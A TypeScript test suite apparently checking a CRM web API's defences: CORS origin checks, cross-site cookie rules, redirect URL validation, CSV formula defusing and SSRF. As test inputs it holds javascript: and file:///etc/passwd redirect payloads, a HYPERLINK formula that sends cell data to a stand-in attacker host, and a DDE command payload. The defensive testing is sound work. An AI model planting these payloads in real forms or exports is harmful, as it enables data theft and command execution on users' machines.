/**
 * Web hygiene (OWASP API8 security misconfiguration): CORS only for ALLOWED_ORIGINS (the public form
 * submit for any site, never with credentials), nosniff and no-store on every answer, the cookie
 * cross-site rule (docs/decisions.md §1), lead-form redirects only to http(s), CSV cells that a
 * spreadsheet would run as formulas defused (docs/decisions.md §6), and no request to an address a caller
 * supplied (OWASP API7).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAccount, createContact, unique, type TestAccount } from '../factories/index.js';
import { createTestApp, TEST_ORIGIN, type RestResult, type TestApp } from '../helpers/app.js';
import { parseCsv } from '../helpers/csv.js';
import { accountSnapshot } from './snapshot.js';

const EVIL = 'https://evil.example';
// Near misses of the allowed origin: another scheme, port or host that merely contains it, and the opaque "null".
const LOOKALIKES = [
  EVIL,
  'http://app.example.test',
  'https://app.example.test:8443',
  'https://app.example.test.evil.example',
  'https://evil-app.example.test',
  'https://sub.app.example.test',
  'null',
];

let t: TestApp;
let acc: TestAccount;
let formId: string;
let ipSeq = 0;
const nextIp = () => `192.0.2.${(++ipSeq % 250) + 1}`;

beforeAll(async () => {
  t = await createTestApp();
  acc = await createAccount(t);
  formId = (
    await t.db.leadForm.create({
      data: {
        accountId: acc.id,
        name: 'Hygiene',
        fields: {
          create: [
            { key: 'email', label: 'E-mail', type: 'email', required: true, mapsTo: 'email', position: 0 },
            { key: 'first', label: 'First name', type: 'text', mapsTo: 'first_name', position: 1 },
            { key: 'last', label: 'Last name', type: 'text', mapsTo: 'last_name', position: 2 },
            { key: 'phone', label: 'Phone', type: 'phone', mapsTo: 'phone', position: 3 },
            { key: 'company', label: 'Company', type: 'text', mapsTo: 'company', position: 4 },
          ],
        },
      },
    })
  ).id;
});
afterAll(() => t?.close());

const preflight = (path: string, origin: string, method = 'POST', app = t) =>
  app.rest('OPTIONS', path, {
    headers: { origin, 'access-control-request-method': method, 'access-control-request-headers': 'authorization,content-type' },
  });

const AUTHENTICATED_PATHS = ['/api/v1/contacts', '/api/v1/contacts/export', '/api/v1/deals', '/api/v1/invoices', '/api/v1/account/export', '/graphql'];

describe('CORS', () => {
  it.each(AUTHENTICATED_PATHS)('a preflight to %s from ALLOWED_ORIGINS gets the origin echoed, with credentials', async (path) => {
    const r = await preflight(path, TEST_ORIGIN);
    expect(r.status).toBeLessThan(300);
    expect(r.headers.get('access-control-allow-origin')).toBe(TEST_ORIGIN);
    expect(r.headers.get('access-control-allow-credentials')).toBe('true');
    expect(r.headers.get('access-control-allow-methods')).toMatch(/POST/);
    expect(r.headers.get('access-control-allow-headers')?.toLowerCase()).toMatch(/authorization/);
  });

  it.each(AUTHENTICATED_PATHS)('a preflight to %s from any other origin gets no CORS grant at all', async (path) => {
    for (const origin of LOOKALIKES) {
      const r = await preflight(path, origin);
      expect(r.headers.get('access-control-allow-origin'), origin).toBeNull();
      expect(r.headers.get('access-control-allow-credentials'), origin).not.toBe('true');
    }
  });

  it('a real request from the allowed origin is readable (origin echoed, credentials); from another it is not', async () => {
    const path = `/api/v1/contacts?account_id=${acc.id}`;
    const allowed = await t.rest('GET', path, { as: acc.member, headers: { origin: TEST_ORIGIN } });
    expect(allowed.status).toBe(200);
    expect(allowed.headers.get('access-control-allow-origin')).toBe(TEST_ORIGIN);
    expect(allowed.headers.get('access-control-allow-credentials')).toBe('true');
    expect(allowed.headers.get('access-control-expose-headers')?.toLowerCase()).toMatch(/ratelimit-remaining/);
    for (const origin of LOOKALIKES) {
      const r = await t.rest('GET', path, { as: acc.member, headers: { origin } });
      expect(r.headers.get('access-control-allow-origin'), origin).toBeNull();
    }
  });

  it('with several ALLOWED_ORIGINS, a sandboxed page (Origin "null") or another site gets no grant, never "null" with credentials', async () => {
    const two = await createTestApp({ env: { ALLOWED_ORIGINS: `${TEST_ORIGIN},https://admin.example.test` } });
    try {
      for (const origin of ['null', EVIL]) {
        for (const r of [
          await preflight('/api/v1/contacts', origin, 'GET', two),
          await two.rest('GET', `/api/v1/contacts?account_id=${acc.id}`, { headers: { origin } }),
        ]) {
          expect(r.headers.get('access-control-allow-origin'), origin).toBeNull();
          expect(r.headers.get('access-control-allow-credentials'), origin).toBeNull();
        }
      }
      for (const origin of [TEST_ORIGIN, 'https://admin.example.test']) {
        const r = await preflight('/api/v1/contacts', origin, 'GET', two);
        expect(r.headers.get('access-control-allow-origin')).toBe(origin);
      }
    } finally {
      await two.close();
    }
  });

  it('with ALLOWED_ORIGINS empty no origin is granted anything', async () => {
    const closed = await createTestApp({ env: { ALLOWED_ORIGINS: '' } });
    try {
      for (const origin of [TEST_ORIGIN, EVIL]) {
        const r = await preflight('/api/v1/contacts', origin, 'POST', closed);
        expect(r.headers.get('access-control-allow-origin'), origin).toBeNull();
      }
    } finally {
      await closed.close();
    }
  });

  it('the public form submit may be posted from any website, but never with credentials', async () => {
    const path = `/api/v1/forms/${formId}/submit`;
    for (const origin of [EVIL, TEST_ORIGIN, 'null']) {
      const r = await t.rest('OPTIONS', path, {
        headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
      });
      expect(r.status).toBeLessThan(300);
      // Any origin is allowed ("*", or the caller's own origin echoed), never with credentials.
      expect(['*', origin], origin).toContain(r.headers.get('access-control-allow-origin'));
      expect(r.headers.get('access-control-allow-credentials'), origin).not.toBe('true');
      expect(r.headers.get('access-control-allow-headers')?.toLowerCase()).toMatch(/content-type/);
      expect(r.headers.get('access-control-allow-headers')?.toLowerCase() ?? '').not.toMatch(/authorization/);
    }
    const posted = await t.rest('POST', path, {
      body: { data: { email: `${unique('cors')}@example.com` } },
      headers: { origin: EVIL },
      clientIp: nextIp(),
    });
    expect(posted.status).toBe(200);
    expect(['*', EVIL]).toContain(posted.headers.get('access-control-allow-origin'));
    expect(posted.headers.get('access-control-allow-credentials')).not.toBe('true');
  });

  it('only the submit path is open to every origin: a look-alike path is not', async () => {
    for (const path of [`/api/v1/forms/${formId}/submit/extra`, `/api/v1/forms/${formId}`, `/api/v1/contacts?x=/api/v1/forms/a/submit`]) {
      const r = await preflight(path, EVIL);
      expect(r.headers.get('access-control-allow-origin'), path).toBeNull();
    }
  });
});

describe('X-Content-Type-Options: nosniff and Cache-Control: no-store on every answer', () => {
  const cases: [string, () => Promise<RestResult>, number][] = [
    ['GET /api/v1/contacts 200', () => t.rest('GET', `/api/v1/contacts?account_id=${acc.id}`, { as: acc.member }), 200],
    ['POST /api/v1/contacts 201', () => t.rest('POST', '/api/v1/contacts', { as: acc.member, body: { account_id: acc.id, first_name: 'H' } }), 201],
    ['GET /api/v1/contacts/export 200 (CSV)', () => t.rest('GET', `/api/v1/contacts/export?account_id=${acc.id}`, { as: acc.member }), 200],
    ['GET /api/v1/deals 200', () => t.rest('GET', `/api/v1/deals?account_id=${acc.id}`, { as: acc.member }), 200],
    ['POST /api/v1/deals 400', () => t.rest('POST', '/api/v1/deals', { as: acc.member, body: { account_id: acc.id } }), 400],
    ['GET /api/v1/invoices 401', () => t.rest('GET', `/api/v1/invoices?account_id=${acc.id}`), 401],
    ['GET /api/v1/account/export 403', () => t.rest('GET', `/api/v1/account/export?account_id=${acc.id}`, { as: acc.outsider }), 403],
    ['GET /api/v1/account/export 200 (JSON download)', () => t.rest('GET', `/api/v1/account/export?account_id=${acc.id}`, { as: acc.owner }), 200],
    ['POST /api/v1/forms/{id}/submit 200', () => t.rest('POST', `/api/v1/forms/${formId}/submit`, { body: { data: { email: 'h@example.com' } }, clientIp: nextIp() }), 200],
    ['POST /api/v1/forms/{id}/submit 404', () => t.rest('POST', `/api/v1/forms/${acc.id}/submit`, { body: { data: {} }, clientIp: nextIp() }), 404],
    ['unknown route 404', () => t.rest('GET', '/api/v1/nothing-here'), 404],
    ['wrong method 405', () => t.rest('DELETE', '/api/v1/contacts', { as: acc.member }), 405],
    ['oversized body 413', () => t.rest('POST', '/api/v1/contacts', { as: acc.member, rawBody: `{"x":"${'a'.repeat(1024 * 1024)}"}` }), 413],
    ['wrong content type 415', () => t.rest('POST', '/api/v1/contacts', { as: acc.member, rawBody: 'x', headers: { 'content-type': 'text/plain' } }), 415],
    ['POST /graphql 200', () => t.rest('POST', '/graphql', { as: acc.member, body: { query: '{ me { id } }' } }), 200],
    ['GET /healthz 200', () => t.rest('GET', '/healthz'), 200],
    ['GET /forms/{id} (HTML page)', () => t.rest('GET', `/forms/${formId}`), 200],
  ];

  it.each(cases)('%s', async (_name, send, status) => {
    const r = await send();
    expect(r.status).toBe(status);
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('cache-control')).toMatch(/no-store/);
  });
});

describe('the cookie cross-site rule: a cookie-authenticated POST must come from ALLOWED_ORIGINS', () => {
  const cookie = () => ({ cookie: `session=${acc.member.token}` });
  const CROSS_SITE = { error: 'Forbidden: cross-site request' };
  const writes = [
    ['POST /api/v1/contacts', '/api/v1/contacts', () => ({ account_id: acc.id, first_name: 'Csrf' })],
    ['POST /api/v1/deals', '/api/v1/deals', () => ({ account_id: acc.id, title: 'Csrf' })],
  ] as const;

  it.each(writes)('%s with the session cookie from another site, or from nowhere, is a 403 and writes nothing', async (_name, path, body) => {
    const variants: Record<string, string>[] = [{ origin: EVIL }, { origin: 'null' }, {}, { referer: `${EVIL}/page` }, { origin: EVIL, referer: `${TEST_ORIGIN}/x` }];
    for (const headers of variants) {
      const before = await accountSnapshot(t, acc.id);
      const r = await t.rest('POST', path, { body: body(), headers: { ...cookie(), ...headers } });
      expect({ status: r.status, body: r.body }, JSON.stringify(headers)).toEqual({ status: 403, body: CROSS_SITE });
      expect(await accountSnapshot(t, acc.id)).toBe(before);
    }
  });

  it.each(writes)('%s with the session cookie from the allowed origin (Origin, or Referer alone) works', async (_name, path, body) => {
    const variants: Record<string, string>[] = [{ origin: TEST_ORIGIN }, { referer: `${TEST_ORIGIN}/app/page` }];
    for (const headers of variants) {
      const r = await t.rest('POST', path, { body: body(), headers: { ...cookie(), ...headers } });
      expect(r.status, JSON.stringify(headers)).toBe(201);
    }
  });

  it('a GraphQL mutation with the session cookie from another site is FORBIDDEN and writes nothing', async () => {
    const before = await accountSnapshot(t, acc.id);
    const r = await t.rest('POST', '/graphql', {
      headers: { ...cookie(), origin: EVIL },
      body: { query: `mutation { createContact(input: { accountId: "${acc.id}", firstName: "Csrf" }) { id } }` },
    });
    expect(r.body.errors[0]).toMatchObject({ message: CROSS_SITE.error, extensions: { code: 'FORBIDDEN' } });
    expect(await accountSnapshot(t, acc.id)).toBe(before);
  });

  it('a bearer token is not subject to the rule (a browser never attaches it on its own)', async () => {
    const r = await t.rest('POST', '/api/v1/contacts', { as: acc.member, body: { account_id: acc.id, first_name: 'Bearer' }, headers: { origin: EVIL } });
    expect(r.status).toBe(201);
  });

  it('reads with the cookie work from anywhere, but the browser may not show them to another site (no CORS grant)', async () => {
    const r = await t.rest('GET', `/api/v1/contacts?account_id=${acc.id}`, { headers: { ...cookie(), origin: EVIL } });
    expect(r.status).toBe(200);
    expect(r.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('the service never sets a cookie of its own (the identity provider does)', async () => {
    for (const r of [
      await t.rest('GET', `/api/v1/contacts?account_id=${acc.id}`, { headers: cookie() }),
      await t.rest('POST', '/graphql', { as: acc.member, body: { query: '{ me { id } }' } }),
      await t.rest('GET', `/forms/${formId}`),
    ]) {
      expect(r.headers.get('set-cookie')).toBeNull();
    }
  });
});

describe('the cookie cross-site rule: a cookie-authenticated GET that runs a mutation (the exports) is refused when cross-site', () => {
  const CROSS_SITE = { error: 'Forbidden: cross-site request' };
  // Each export writes an audit row and spends a budget: 1 an hour per account, 5 a minute per user.
  const exportsRun = [
    ['GET /api/v1/account/export', (a: TestAccount) => `/api/v1/account/export?account_id=${a.id}`, 0],
    ['GET /api/v1/contacts/export', (a: TestAccount) => `/api/v1/contacts/export?account_id=${a.id}`, 4],
  ] as const;
  const cookieOf = (a: TestAccount) => ({ cookie: `session=${a.owner.token}` });

  it.each(exportsRun)('%s with the session cookie from another site is a 403, writes no audit row and spends no budget', async (_name, path, remaining) => {
    const account = await createAccount(t);
    const variants: Record<string, string>[] = [
      // Another site's link or redirect, its Referer suppressed: only the browser's Sec-Fetch-Site tells.
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' },
      { 'sec-fetch-site': 'cross-site', referer: `${EVIL}/page` },
      { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'navigate' },
      { origin: EVIL },
      { referer: `${EVIL}/page` },
    ];
    for (const headers of variants) {
      const r = await t.rest('GET', path(account), { headers: { ...cookieOf(account), ...headers } });
      expect({ status: r.status, body: r.body }, JSON.stringify(headers)).toEqual({ status: 403, body: CROSS_SITE });
    }
    expect(await t.db.exportLog.count({ where: { accountId: account.id } })).toBe(0);
    // The owner's budget is whole: the first real export right after still works.
    const own = await t.rest('GET', path(account), { as: account.owner });
    expect(own.status).toBe(200);
    expect(own.headers.get('ratelimit-remaining')).toBe(String(remaining));
  });

  it.each(exportsRun)('%s with the session cookie typed into the address bar (Sec-Fetch-Site: none), same-origin, or without fetch metadata works', async (_name, path) => {
    const variants: Record<string, string>[] = [
      { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate' },
      { 'sec-fetch-site': 'same-origin', referer: `${t.baseUrl}/docs` },
      {},
    ];
    for (const headers of variants) {
      const account = await createAccount(t); // a fresh budget for each download
      const r = await t.rest('GET', path(account), { headers: { ...cookieOf(account), ...headers } });
      expect(r.status, JSON.stringify(headers)).toBe(200);
      expect(await t.db.exportLog.count({ where: { accountId: account.id } })).toBe(1);
    }
  });

  it.each(exportsRun)('%s with the session cookie from the allowed origin (Origin, or Referer alone) works, even when it is another site', async (_name, path) => {
    const variants: Record<string, string>[] = [
      { origin: TEST_ORIGIN, 'sec-fetch-site': 'cross-site' },
      { referer: `${TEST_ORIGIN}/app/settings`, 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' },
    ];
    for (const headers of variants) {
      const account = await createAccount(t);
      const r = await t.rest('GET', path(account), { headers: { ...cookieOf(account), ...headers } });
      expect(r.status, JSON.stringify(headers)).toBe(200);
    }
  });

  it.each(exportsRun)('%s with a bearer token is not subject to the rule, whatever the cross-site headers', async (_name, path) => {
    const account = await createAccount(t);
    const r = await t.rest('GET', path(account), {
      as: account.owner,
      headers: { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', referer: `${EVIL}/page` },
    });
    expect(r.status).toBe(200);
  });

  it('a GET that only reads, with the session cookie from another site, still works (nothing to forge)', async () => {
    const r = await t.rest('GET', `/api/v1/contacts?account_id=${acc.id}`, {
      headers: { cookie: `session=${acc.member.token}`, 'sec-fetch-site': 'cross-site', referer: `${EVIL}/page` },
    });
    expect(r.status).toBe(200);
  });
});

describe('lead-form redirectUrl: only absolute http and https URLs', () => {
  const create = (redirectUrl: string) =>
    t.gql(
      'mutation ($input: CreateLeadFormInput!) { createLeadForm(input: $input) { id redirectUrl } }',
      { input: { accountId: acc.id, name: unique('Redirect'), redirectUrl, fields: [{ key: 'email', label: 'E-mail', type: 'email', mapsTo: 'email' }] } },
      { as: acc.member },
    );

  it.each([
    'javascript:alert(document.cookie)',
    'JAVASCRIPT:alert(1)',
    '  javascript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'ftp://example.com/file',
    '//evil.example/phish',
    '/thanks',
    'http://',
    'not a url',
  ])('%j is refused on redirectUrl and no form is created', async (url) => {
    const before = await t.db.leadForm.count({ where: { accountId: acc.id } });
    const r = await create(url);
    expect(r.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(r.errors?.[0]?.extensions?.details).toEqual({ redirectUrl: ['Must be an absolute http or https URL'] });
    expect(await t.db.leadForm.count({ where: { accountId: acc.id } })).toBe(before);
  });

  it.each(['https://example.com/thanks', 'http://example.com/thanks?from=form#top'])('%s is kept and handed back by the submit', async (url) => {
    const r = await create(url);
    expect(r.errors).toBeUndefined();
    const submitted = await t.rest('POST', `/api/v1/forms/${r.data.createLeadForm.id}/submit`, {
      body: { data: { email: `${unique('r')}@example.com` } },
      clientIp: nextIp(),
    });
    expect(submitted.body.redirectUrl).toBe(url);
  });
});

describe('CSV export: cells a spreadsheet would run as a formula are defused', () => {
  const FORMULAS = ['=HYPERLINK("https://evil.example?d="&A2,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', '=cmd|\' /C calc\'!A0'];

  it('values posted through the public form (the attacker\'s way in) come out prefixed with \'', async () => {
    const account = await createAccount(t);
    const form = await t.db.leadForm.create({
      data: {
        accountId: account.id,
        name: 'Formulas',
        fields: {
          create: [
            { key: 'email', label: 'E-mail', type: 'email', required: true, mapsTo: 'email', position: 0 },
            { key: 'first', label: 'First', type: 'text', mapsTo: 'first_name', position: 1 },
            { key: 'last', label: 'Last', type: 'text', mapsTo: 'last_name', position: 2 },
            { key: 'phone', label: 'Phone', type: 'phone', mapsTo: 'phone', position: 3 },
            { key: 'company', label: 'Company', type: 'text', mapsTo: 'company', position: 4 },
          ],
        },
      },
    });
    for (const [i, formula] of FORMULAS.entries()) {
      const r = await t.rest('POST', `/api/v1/forms/${form.id}/submit`, {
        body: { data: { email: `f${i}-${unique('x')}@example.com`, first: formula, last: formula, phone: formula.slice(0, 50), company: formula } },
        clientIp: nextIp(),
      });
      expect(r.status, r.text).toBe(200);
    }
    // Leading tab and carriage return survive only when written directly (inputs are trimmed).
    await createContact(t, account, { firstName: '\t=1+1', lastName: '\r=1+1', company: '=1+1' });

    const csv = await t.rest('GET', `/api/v1/contacts/export?account_id=${account.id}`, { as: account.owner });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.text);
    expect(rows[0]!.slice(0, 5)).toEqual(['First Name', 'Last Name', 'Email', 'Phone', 'Company']);
    const cells = rows.slice(1).flat();
    expect(cells.length).toBeGreaterThan(FORMULAS.length * 5);
    for (const value of cells) expect(value, JSON.stringify(value)).not.toMatch(/^[=+\-@\t\r]/);
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
    expect(cells).toContain("'\t=1+1");
    expect(cells).toContain("'\r=1+1");
  });

  it('an ordinary value that merely contains = or - keeps its text (only the first character matters)', async () => {
    const account = await createAccount(t);
    await createContact(t, account, { firstName: 'Anne-Marie', company: 'A=B Ltd', phone: '+1 555 0100' });
    const csv = await t.rest('GET', `/api/v1/contacts/export?account_id=${account.id}`, { as: account.owner });
    const cells = parseCsv(csv.text).slice(1).flat();
    expect(cells).toContain('Anne-Marie');
    expect(cells).toContain('A=B Ltd');
    // A phone number that starts with + would run in a spreadsheet: defused like any other.
    expect(cells).toContain("'+1 555 0100");
  });
});

describe('no server-side requests to addresses callers supply (OWASP API7, SSRF)', () => {
  it('a redirectUrl, referrer and page pointing inside the network are stored as text and never fetched', async () => {
    // An "internal" service: it counts every request that reaches it.
    let hits = 0;
    const inside = http.createServer((_req, res) => void (hits++, res.end('internal')));
    await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
    const target = `http://127.0.0.1:${(inside.address() as AddressInfo).port}`;
    try {
      const created = await t.gql(
        'mutation ($input: CreateLeadFormInput!) { createLeadForm(input: $input) { id redirectUrl } }',
        { input: { accountId: acc.id, name: 'Ssrf', redirectUrl: `${target}/admin`, fields: [{ key: 'email', label: 'E-mail', type: 'email', mapsTo: 'email' }] } },
        { as: acc.owner },
      );
      expect(created.data.createLeadForm.redirectUrl).toBe(`${target}/admin`);
      const r = await t.rest('POST', `/api/v1/forms/${created.data.createLeadForm.id}/submit`, {
        body: { data: { email: `${unique('ssrf')}@example.com` }, metadata: { referrer: `${target}/referrer`, page: `${target}/page` } },
        headers: { referer: `${target}/header`, origin: target },
        clientIp: nextIp(),
      });
      expect(r.status).toBe(200);
      await t.rest('GET', `/forms/${created.data.createLeadForm.id}`);
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(hits).toBe(0);
    } finally {
      inside.close();
    }
  });
});
